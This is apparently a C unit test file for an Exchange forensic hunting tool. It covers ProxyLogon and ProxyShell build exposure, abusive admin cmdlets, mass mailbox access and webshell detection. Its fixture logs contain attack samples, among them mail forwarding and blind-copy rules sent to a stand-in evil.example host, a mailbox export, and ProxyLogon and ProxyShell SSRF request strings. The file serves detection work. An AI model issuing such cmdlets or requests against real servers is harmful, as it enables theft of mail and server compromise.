/*
 * test_exchange_reach.c - "since when were we open" and "what did they
 * read": Exchange builds against the fixed builds of 2021 (exposure.c),
 * cmdlets that open or copy mail (exchange_admin.c) and one account
 * reaching many mailboxes (mail_access.c).
 *
 * Truth from outside: the build numbers are Microsoft's published builds
 * ("Exchange Server build numbers and release dates": 15.1.2176.2 is 2016
 * CU19, 15.1.2176.9 its March 2021 SU, 15.1.2176.14 its May 2021 SU,
 * 15.2.858.5 is 2019 CU9 released with the March fix, 15.2.922.7 2019
 * CU10); the cmdlet lines follow Microsoft's cmdlet documentation
 * (New-ManagementRoleAssignment -Role ApplicationImpersonation, New-
 * TransportRule -BlindCopyTo, Set-Mailbox -ForwardingSmtpAddress,
 * New-InboxRule -ForwardTo) as the ECP Server log writes them.
 */
#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>

#include <cmocka.h>

#include "exchange/builds.h"
#include "exchange/cmdlet.h"
#include "testutil.h"

static sp_exch_exposure expo(const char *b, sp_exch_wave w, char *fix) {
  sp_exch_build x;
  assert_true(sp_exch_build_parse(sp_str_make(b, strlen(b)), &x));
  return sp_exch_exposure_of(&x, w, fix, 32);
}

static void test_builds(void **state) {
  (void)state;
  char fix[32], out[32];
  assert_int_equal(
      sp_exch_build_norm(sp_str_make("15.01.2176.002", 14), out, sizeof out),
      11);
  assert_string_equal(out, "15.1.2176.2");
  sp_exch_build x;
  assert_false(sp_exch_build_parse(sp_str_make("1.0", 3), &x)); /* IIS */
  assert_false(sp_exch_build_parse(sp_str_make("15.0.0.0", 8), &x));
  assert_false(sp_exch_build_parse(sp_str_make("15.1.2176", 9), &x));
  assert_false(sp_exch_build_parse(sp_str_make("15.1.2176.2x", 12), &x));
  /* 2016 CU19 */
  assert_int_equal(expo("15.1.2176.2", SP_WAVE_PROXYLOGON, fix),
                   SP_EXPO_VULNERABLE);
  assert_string_equal(fix, "15.1.2176.9");
  assert_int_equal(expo("15.1.2176.9", SP_WAVE_PROXYLOGON, fix), SP_EXPO_FIXED);
  assert_int_equal(expo("15.1.2176.9", SP_WAVE_PROXYSHELL, fix),
                   SP_EXPO_VULNERABLE);
  assert_string_equal(fix, "15.1.2176.14");
  assert_int_equal(expo("15.1.2176.14", SP_WAVE_PROXYSHELL, fix),
                   SP_EXPO_FIXED);
  /* 2019 CU9 came with the March fix; CU10 with both. */
  assert_int_equal(expo("15.2.858.5", SP_WAVE_PROXYLOGON, fix), SP_EXPO_FIXED);
  assert_int_equal(expo("15.2.858.5", SP_WAVE_PROXYSHELL, fix),
                   SP_EXPO_VULNERABLE);
  assert_int_equal(expo("15.2.922.7", SP_WAVE_PROXYSHELL, fix), SP_EXPO_FIXED);
  /* 2016 CU7 (15.1.1261.35) never got the March SU: update the CU. */
  assert_int_equal(expo("15.1.1261.35", SP_WAVE_PROXYLOGON, fix),
                   SP_EXPO_VULNERABLE);
  assert_string_equal(fix, "");
  /* 2013 CU23 Mar21SU is 15.0.1497.12. */
  assert_int_equal(expo("15.0.1497.12", SP_WAVE_PROXYLOGON, fix),
                   SP_EXPO_FIXED);
  assert_int_equal(expo("15.0.1497.2", SP_WAVE_PROXYLOGON, fix),
                   SP_EXPO_VULNERABLE);
  /* Exchange 2010 SP3: RU32 (14.3.513.0) fixed CVE-2021-26857; no
     ProxyShell. */
  assert_int_equal(expo("14.3.509.0", SP_WAVE_PROXYLOGON, fix),
                   SP_EXPO_VULNERABLE);
  assert_int_equal(expo("14.3.513.0", SP_WAVE_PROXYLOGON, fix), SP_EXPO_FIXED);
  assert_int_equal(expo("14.3.509.0", SP_WAVE_PROXYSHELL, fix),
                   SP_EXPO_NOT_AFFECTED);
  assert_int_equal(expo("8.3.517.0", SP_WAVE_PROXYLOGON, fix), SP_EXPO_UNKNOWN);
}

static void test_cmdlet_params(void **state) {
  (void)state;
  sp_str name, params;
  const char *ecp = "Set-Mailbox.Identity=''CORP\\bob''.ForwardingSmtpAddress="
                    "''smtp:x@evil.example''.DeliverToMailboxAndForward=$true";
  assert_true(sp_cmdlet_split(sp_str_make(ecp, strlen(ecp)), &name, &params));
  assert_true(sp_str_eq(name, "Set-Mailbox"));
  sp_str v = sp_cmdlet_param(params, "ForwardingSmtpAddress");
  assert_non_null(v.p);
  assert_true(sp_str_eq(v, "smtp:x@evil.example"));
  v = sp_cmdlet_param(params, "DeliverToMailboxAndForward");
  assert_true(sp_str_eq(v, "$true"));
  assert_null(sp_cmdlet_param(params, "Forwarding").p);
  const char *ps = "New-ManagementRoleAssignment -Name \"imp\" -Role "
                   "ApplicationImpersonation -User svc-sync";
  assert_true(sp_cmdlet_split(sp_str_make(ps, strlen(ps)), &name, &params));
  v = sp_cmdlet_param(params, "Role");
  assert_true(sp_str_eq(v, "ApplicationImpersonation"));
  v = sp_cmdlet_param(params, "Name");
  assert_true(sp_str_eq(v, "imp"));
  /* A dotted value keeps its dots: only ".Ident=" ends a bare value. */
  const char *dots = "Set-Mailbox.ForwardingAddress=a.b.example.Identity=x";
  assert_true(sp_cmdlet_split(sp_str_make(dots, strlen(dots)), &name, &params));
  v = sp_cmdlet_param(params, "ForwardingAddress");
  assert_true(sp_str_eq(v, "a.b.example"));
  assert_false(sp_cmdlet_split(sp_str_make("Get", 3), &name, &params));
}

static const char ecp_head[] =
    "#Software: Microsoft Exchange Server\r\n"
    "#Version: 15.01.2176.002\r\n"
    "#Log-type: ECP Server Log\r\n"
    "#Fields: TimeStamp,ServerName,EventId,EventData\r\n";

static void ecp_line(char *buf, size_t cap, const char *t, const char *cmd) {
  size_t n = strlen(buf);
  snprintf(buf + n, cap - n,
           "%s,EXCH1,ECP.Request,\"S:TIME=1;S:CMD=%s;S:REQID=;S:URL=/ecp/"
           "DDI/DDIService.svc/NewObject;S:EX=;S:RS=0;S:BLD=15.1.2176.2\"\r\n",
           t, cmd);
}

static void test_admin_cmdlets(void **state) {
  (void)state;
  char *dir = tu_tmpdir();
  char log[8192];
  snprintf(log, sizeof log, "%s", ecp_head);
  ecp_line(log, sizeof log, "2021-03-03T02:00:00.000Z",
           "New-ManagementRoleAssignment.Role=''ApplicationImpersonation''."
           "User=''svc-sync''");
  ecp_line(log, sizeof log, "2021-03-03T02:01:00.000Z",
           "New-TransportRule.Name=''journal''.BlindCopyTo=''x@evil.example''");
  ecp_line(log, sizeof log, "2021-03-03T02:02:00.000Z",
           "Set-Mailbox.Identity=''bob''.ForwardingSmtpAddress="
           "''smtp:x@evil.example''");
  ecp_line(log, sizeof log, "2021-03-03T02:03:00.000Z",
           "New-MailboxExportRequest.Mailbox=''ceo''.FilePath="
           "''\\\\\\\\exch1\\\\c$\\\\temp\\\\ceo.pst''");
  ecp_line(log, sizeof log, "2021-03-03T02:04:00.000Z",
           "Remove-MailboxExportRequest.Identity=''ceo\\\\MailboxExport''");
  /* Benign administration: nothing. */
  ecp_line(log, sizeof log, "2021-03-03T02:05:00.000Z",
           "Set-Mailbox.Identity=''bob''.ProhibitSendQuota=''5GB''");
  ecp_line(log, sizeof log, "2021-03-03T02:06:00.000Z",
           "New-ManagementRoleAssignment.Role=''Mail Recipients''.User=''hd''");
  ecp_line(log, sizeof log, "2021-03-03T02:07:00.000Z",
           "New-InboxRule.Name=''news''.MoveToFolder=''bob:\\\\News''");
  tu_write(dir, "ECPServer20210303-1.LOG", log, strlen(log));
  sp_result *r = tu_hunt(dir, 1);
  const sp_finding *f =
      tu_find(r, "spoor.exchange.admin.impersonation_grant", 0);
  assert_non_null(f);
  assert_int_equal(f->level, SP_LEVEL_HIGH);
  assert_non_null(strstr(f->reason, "ApplicationImpersonation"));
  assert_int_equal(f->evidence[0].where, 5);
  assert_non_null(tu_find(r, "spoor.exchange.admin.transport_rule_copy", 0));
  assert_non_null(tu_find(r, "spoor.exchange.admin.mail_forwarding", 0));
  assert_null(tu_find(r, "spoor.exchange.admin.mail_forwarding", 1));
  assert_non_null(tu_find(r, "spoor.exchange.admin.mailbox_export", 0));
  assert_non_null(tu_find(r, "spoor.exchange.admin.mailbox_export_removed", 0));
  assert_null(tu_find(r, "spoor.exchange.admin.impersonation_grant", 1));
  assert_null(tu_find(r, "spoor.exchange.admin.mailbox_permission", 0));
  /* The log's build (2016 CU19 without the March update, from the header
     and BLD=) and the date: open to ProxyLogon and ProxyShell. */
  f = tu_find(r, "spoor.exchange.exposure.proxylogon", 0);
  assert_non_null(f);
  assert_non_null(strstr(f->reason, "15.1.2176.2"));
  assert_non_null(strstr(f->reason, "still vulnerable"));
  assert_non_null(strstr(f->reason, "15.1.2176.9"));
  sp_result_destroy(r);
  tu_rm_rf(dir);
  free(dir);
}

static const char hp_head[] =
    "#Software: Microsoft Exchange Server\r\n"
    "#Version: 15.01.2176.002\r\n"
    "#Log-type: HttpProxy Logs\r\n"
    "#Fields: DateTime,RequestId,MajorVersion,MinorVersion,BuildVersion,"
    "RevisionVersion,Protocol,UrlStem,AnchorMailbox,ClientIpAddress,"
    "ServerHostName,HttpStatus,Method,AuthenticatedUser\r\n";

static void test_exposure_window(void **state) {
  (void)state;
  char *dir = tu_tmpdir();
  char log[4096];
  /* EXCH1 runs 2016 CU19 until the March update is installed on the 5th;
     EXCH2 runs CU19 Mar21SU throughout (fixed for ProxyLogon). */
  snprintf(log, sizeof log,
           "%s"
           "2021-02-20T10:00:00.000Z,r1,15,1,2176,2,Owa,/owa/,"
           "Smtp~a@corp.example,10.0.0.5,EXCH1,200,GET,CORP\\a\r\n"
           "2021-03-04T23:00:00.000Z,r2,15,1,2176,2,Owa,/owa/,"
           "Smtp~a@corp.example,10.0.0.5,EXCH1,200,GET,CORP\\a\r\n"
           "2021-03-05T02:00:00.000Z,r3,15,1,2176,9,Owa,/owa/,"
           "Smtp~a@corp.example,10.0.0.5,EXCH1,200,GET,CORP\\a\r\n"
           "2021-03-05T03:00:00.000Z,r4,15,1,2176,9,Owa,/owa/,"
           "Smtp~a@corp.example,10.0.0.5,EXCH2,200,GET,CORP\\a\r\n"
           /* the SSRF against each: EXCH1 still open, EXCH2 fixed */
           "2021-03-04T22:00:00.000Z,r5,15,1,2176,2,Ecp,/ecp/y.js,"
           "ServerInfo~a]@EXCH1:444/ecp/proxyLogon.ecp#,203.0.113.9,EXCH1,"
           "241,POST,\r\n"
           "2021-03-05T04:00:00.000Z,r6,15,1,2176,9,Ecp,/ecp/y.js,"
           "ServerInfo~a]@EXCH2:444/ecp/proxyLogon.ecp#,203.0.113.9,EXCH2,"
           "241,POST,\r\n",
           hp_head);
  tu_write(dir, "HttpProxy_2021030500-1.LOG", log, strlen(log));
  sp_result *r = tu_hunt(dir, 2);
  const sp_finding *f = tu_find(r, "spoor.exchange.exposure.proxylogon", 0);
  assert_non_null(f);
  assert_null(tu_find(r, "spoor.exchange.exposure.proxylogon", 1));
  assert_non_null(strstr(f->reason, "EXCH1 ran 15.1.2176.2"));
  assert_non_null(strstr(f->reason, "2021-02-20 10:00 UTC"));
  assert_non_null(strstr(f->reason, "until 2021-03-05 02:00 UTC"));
  assert_non_null(strstr(f->reason, "15.1.2176.9"));
  assert_int_equal(f->evidence[0].where, 5);
  /* The SSRF against EXCH1 (vulnerable) keeps its level; against EXCH2,
     which ran the March update, it could not succeed: low, and said. */
  int n_high = 0, n_low = 0;
  for (size_t i = 0; i < sp_result_finding_count(r); i++) {
    const sp_finding *x = sp_result_finding(r, i);
    if (strcmp(x->rule_id, "spoor.exchange.cve_2021_26855.anchor_mailbox"))
      continue;
    const char *host = "";
    for (size_t k = 0; k < x->n_entities; k++)
      if (!strcmp(x->entities[k].field, "host.name"))
        host = x->entities[k].value;
    if (!strcmp(host, "EXCH1") && x->level == SP_LEVEL_HIGH)
      n_high++;
    if (!strcmp(host, "EXCH2") && x->level == SP_LEVEL_LOW)
      n_low++;
  }
  assert_int_equal(n_high, 1);
  assert_int_equal(n_low, 1);
  f = tu_find(r, "spoor.exchange.exposure.proxylogon_fixed", 0);
  assert_non_null(f);
  assert_non_null(strstr(f->reason, "EXCH2 ran 15.1.2176.9"));
  assert_non_null(strstr(f->reason, "2 exploitation findings"));
  /* ProxyShell: both servers open (no May 2021 update yet), but the
     evidence ends months before it was exploited (August 2021): low. */
  assert_null(tu_find(r, "spoor.exchange.exposure.proxyshell", 0));
  assert_non_null(tu_find(r, "spoor.exchange.exposure.proxyshell_before", 0));
  assert_non_null(tu_find(r, "spoor.exchange.exposure.proxyshell_before", 1));
  assert_int_equal(
      tu_find(r, "spoor.exchange.exposure.proxyshell_before", 0)->level,
      SP_LEVEL_LOW);
  sp_result_destroy(r);
  tu_rm_rf(dir);
  free(dir);
}

static void test_many_mailboxes(void **state) {
  (void)state;
  char *dir = tu_tmpdir();
  size_t cap = 1 << 16, n = 0;
  char *log = malloc(cap);
  assert_non_null(log);
  n += (size_t)snprintf(log + n, cap - n, "%s", hp_head);
  /* svc-sync opens 12 other mailboxes over EWS (an impersonating
     application); bob opens his own and one shared mailbox; a health
     mailbox probes 30. */
  for (int i = 0; i < 12; i++)
    n += (size_t)snprintf(
        log + n, cap - n,
        "2021-03-06T01:%02d:00.000Z,e%d,15,1,2176,9,Ews,/EWS/Exchange.asmx,"
        "Smtp~user%02d@corp.example,203.0.113.9,EXCH1,200,POST,"
        "CORP\\svc-sync\r\n",
        i, i, i);
  n += (size_t)snprintf(
      log + n, cap - n,
      "2021-03-06T02:00:00.000Z,b1,15,1,2176,9,Owa,/owa/,"
      "Smtp~bob@corp.example,10.0.0.7,EXCH1,200,GET,CORP\\bob\r\n"
      "2021-03-06T02:01:00.000Z,b2,15,1,2176,9,Owa,/owa/,"
      "Smtp~shared@corp.example,10.0.0.7,EXCH1,200,GET,CORP\\bob\r\n");
  for (int i = 0; i < 30; i++)
    n += (size_t)snprintf(
        log + n, cap - n,
        "2021-03-06T03:%02d:00.000Z,h%d,15,1,2176,9,Ews,/EWS/Exchange.asmx,"
        "Smtp~user%02d@corp.example,10.0.0.1,EXCH1,200,POST,"
        "CORP\\HealthMailbox0a1b2c\r\n",
        i, i, i);
  tu_write(dir, "HttpProxy_2021030600-1.LOG", log, n);
  free(log);
  sp_result *r = tu_hunt(dir, 2);
  const sp_finding *f = tu_find(r, "spoor.exchange.mail.many_mailboxes", 0);
  assert_non_null(f);
  assert_null(tu_find(r, "spoor.exchange.mail.many_mailboxes", 1));
  assert_null(tu_find(r, "spoor.exchange.mail.many_mailboxes_high", 0));
  assert_non_null(strstr(f->reason, "corp\\svc-sync reached 12 mailboxes"));
  assert_non_null(strstr(f->reason, "EWS"));
  assert_non_null(strstr(f->reason, "203.0.113.9"));
  assert_non_null(strstr(f->reason, "user00@corp.example"));
  assert_int_equal(f->evidence[0].where, 5);
  sp_result_destroy(r);
  tu_rm_rf(dir);
  free(dir);
}

/* A page of no stock name directly in Exchange's ecp folder is an unknown
 * page (medium); the IIS log shows it was requested (200): webshell use,
 * although /ecp/ itself is no folder the access rule watches. */
static void test_unknown_page_requested(void **state) {
  (void)state;
  char *dir = tu_tmpdir();
  char sub[1100];
  snprintf(sub, sizeof sub, "%s/ClientAccess/ecp", dir);
  char cmd[1200];
  snprintf(cmd, sizeof cmd, "mkdir -p '%s'", sub);
  assert_int_equal(system(cmd), 0);
  const char page[] = "<%@ Page Language=\"C#\" %>\n<html><body>hello"
                      "</body></html>\n";
  tu_write(sub, "zz.aspx", page, strlen(page));
  const char iis[] =
      "#Software: Microsoft Internet Information Services 10.0\r\n"
      "#Version: 1.0\r\n#Date: 2021-03-05 00:00:00\r\n"
      "#Fields: date time s-ip cs-method cs-uri-stem cs-uri-query s-port "
      "cs-username c-ip cs(User-Agent) cs(Referer) sc-status sc-substatus "
      "sc-win32-status time-taken\r\n"
      "2021-03-05 01:00:00 10.0.0.2 POST /ecp/zz.aspx - 443 - 203.0.113.9 "
      "python-requests/2.25 - 200 0 0 15\r\n";
  tu_write(dir, "u_ex210305.log", iis, strlen(iis));
  sp_result *r = tu_hunt(dir, 2);
  const sp_finding *f = tu_find(r, "spoor.file.unknown_page", 0);
  assert_non_null(f);
  assert_int_equal(f->level, SP_LEVEL_MEDIUM);
  f = tu_find(r, "spoor.iis.webshell.flagged_file_access", 0);
  assert_non_null(f);
  assert_int_equal(f->evidence[0].where, 5);
  sp_result_destroy(r);
  tu_rm_rf(dir);
  free(dir);
}

/* ProxyShell seen only in an HttpProxy log (Autodiscover protocol folder):
 * the request Orange Tsai published for CVE-2021-34473 ("GET /autodiscover/
 * autodiscover.json?@foo.com/mapi/nspi/?&Email=autodiscover/autodiscover.
 * json%3F@foo.com") and its /powershell form (CVE-2021-34523). */
static void test_proxyshell_httpproxy(void **state) {
  (void)state;
  char *dir = tu_tmpdir();
  const char log[] =
      "#Software: Microsoft Exchange Server\r\n"
      "#Version: 15.01.2308.008\r\n"
      "#Log-type: HttpProxy Logs\r\n"
      "#Fields: DateTime,RequestId,Protocol,UrlStem,UrlQuery,ClientIpAddress,"
      "ServerHostName,HttpStatus,Method\r\n"
      "2021-08-09T01:00:00.000Z,r1,Autodiscover,/autodiscover/"
      "autodiscover.json,?@foo.com/mapi/nspi/?&Email=autodiscover/"
      "autodiscover.json%3F@foo.com,198.51.100.3,EXCH1,200,GET\r\n"
      "2021-08-09T01:00:05.000Z,r2,Autodiscover,/autodiscover/"
      "autodiscover.json,?@foo.com/powershell/?X-Rps-CAT=VgEAVAdXaW5kb3dzQw"
      "&Email=autodiscover/autodiscover.json%3F@foo.com,198.51.100.3,EXCH1,"
      "200,POST\r\n"
      "2021-08-09T01:00:09.000Z,r3,Autodiscover,/autodiscover/"
      "autodiscover.json,?Email=alice@corp.example&Protocol=ActiveSync,"
      "10.0.0.8,EXCH1,200,GET\r\n";
  tu_write(dir, "HttpProxy_2021080901-1.LOG", log, strlen(log));
  sp_result *r = tu_hunt(dir, 1);
  const sp_finding *f =
      tu_find(r, "spoor.exchange.cve_2021_34473.autodiscover_json_ssrf", 0);
  assert_non_null(f);
  assert_int_equal(f->evidence[0].where, 5);
  assert_null(
      tu_find(r, "spoor.exchange.cve_2021_34473.autodiscover_json_ssrf", 1));
  f = tu_find(r, "spoor.exchange.cve_2021_34523.powershell_ssrf", 0);
  assert_non_null(f);
  assert_int_equal(f->evidence[0].where, 6);
  sp_result_destroy(r);
  tu_rm_rf(dir);
  free(dir);
}

int main(void) {
  const struct CMUnitTest tests[] = {
      cmocka_unit_test(test_builds),
      cmocka_unit_test(test_cmdlet_params),
      cmocka_unit_test(test_admin_cmdlets),
      cmocka_unit_test(test_exposure_window),
      cmocka_unit_test(test_many_mailboxes),
      cmocka_unit_test(test_unknown_page_requested),
      cmocka_unit_test(test_proxyshell_httpproxy),
  };
  return cmocka_run_group_tests(tests, NULL, NULL);
}
